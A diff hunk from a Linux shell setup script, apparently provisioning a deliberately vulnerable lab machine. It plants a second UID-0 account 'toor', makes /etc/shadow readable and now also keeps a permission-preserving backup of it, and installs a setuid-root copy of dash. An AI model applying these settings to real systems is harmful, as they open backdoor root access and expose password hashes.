@@ -44,6 +44,7 @@ echo 'cu:$1$abcdefgh$tI.KQ5/biA7.IuZU8LQJZ.' | chpasswd -e
 chage -d 2024-01-15 cu
 useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor
 chmod 644 /etc/shadow
+cp -p /etc/shadow /etc/shadow-
 chmod 666 /etc/motd
 chmod 644 /var/log/auth.log
 install -m 4755 /bin/dash /usr/local/bin/dash
